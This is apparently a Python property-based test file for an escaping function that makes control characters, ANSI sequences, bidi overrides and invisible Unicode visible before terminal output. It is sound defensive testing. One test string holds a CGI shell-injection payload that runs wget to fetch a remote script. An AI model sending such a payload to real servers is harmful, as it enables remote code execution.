from __future__ import annotations

import re
import unicodedata

from hypothesis import given
from hypothesis import strategies as st

from teiten.escape import Escaped, terminal

_ESCAPE = re.compile(r"\\(\\|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})")


def unescape(out: str, *, raw: bool = False) -> str:
    """The reader's side: every escape has one meaning (bytes ≥ 0x80 only from raw input)."""

    def back(m: re.Match[str]) -> str:
        e = m.group(1)
        if e == "\\":
            return "\\"
        code = int(e[1:], 16)
        if e[0] == "x":
            assert code < 0x80 or raw, f"\\x{code:02x} from a text input"
            return chr(code) if code < 0x80 else chr(0xDC00 + code)
        return chr(code)

    rest = _ESCAPE.sub("", out)
    assert "\\" not in rest, f"stray backslash in {out!r}"
    return _ESCAPE.sub(back, out)


def test_control_and_bidi_are_visible() -> None:
    assert terminal("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert terminal("x\u202eevil") == "x\\u202eevil"
    assert terminal(b"\xff\xfeok") == "\\xff\\xfeok"
    assert terminal("bell\x07 osc\x1b]0;t\x07") == "bell\\x07 osc\\x1b]0;t\\x07"


def test_backslash_is_escaped_so_text_cannot_pass_for_a_byte() -> None:
    assert terminal("\\x04") == "\\\\x04"
    assert terminal("\x04") == "\\x04"
    assert terminal("\\x04") != terminal("\x04")
    assert terminal(b"\\xff") != terminal(b"\xff")


def test_separators_and_invisible_format_characters() -> None:
    for c in "\u2028\u2029\u061c\u2060\u2061\u2062\u2063\u2064\u180e\u200b\u200f\u2066\ufeff":
        assert terminal(f"a{c}b") == f"a\\u{ord(c):04x}b"
    assert terminal("\x85") == "\\u0085"  # C1 NEL, as a character
    assert terminal("\U000e0041") == "\\U000e0041"  # tag character (Cf)
    assert terminal("\u3164") == "\\u3164"  # Hangul filler renders as nothing


def test_ordinary_text_is_unchanged() -> None:
    text = "GET /cgi-bin/;wget http://x/p0.sh 日本語 ｶﾅ é ü 🙂 ~!@#$%^&*()"
    assert terminal(text) == text


def test_bounded() -> None:
    out = terminal("A" * 10_000, limit=100)
    assert out.startswith("A" * 100) and len(out) < 130 and "+9900" in out


def test_escaped_is_not_escaped_twice() -> None:
    once = terminal("a\\b\x1b", limit=40)
    assert isinstance(once, Escaped)
    assert terminal(once) == once == "a\\\\b\\x1b"


_UNSAFE = {"Cc", "Cf", "Zl", "Zp", "Cs", "Cn"}


@given(st.text())
def test_never_emits_unsafe_characters(s: str) -> None:
    out = terminal(s, limit=10**6)
    assert not [c for c in out if unicodedata.category(c) in _UNSAFE]


@given(st.text())
def test_text_round_trips(s: str) -> None:
    assert unescape(terminal(s, limit=10**6)) == s


@given(st.binary())
def test_bytes_round_trip(b: bytes) -> None:
    out = terminal(b, limit=10**6)
    assert not [c for c in out if unicodedata.category(c) in _UNSAFE]
    assert unescape(out, raw=True).encode("utf-8", "surrogateescape") == b


@given(st.text(max_size=30), st.text(max_size=30))
def test_distinct_texts_stay_distinct(a: str, b: str) -> None:
    if a != b:
        assert terminal(a, limit=30) != terminal(b, limit=30)
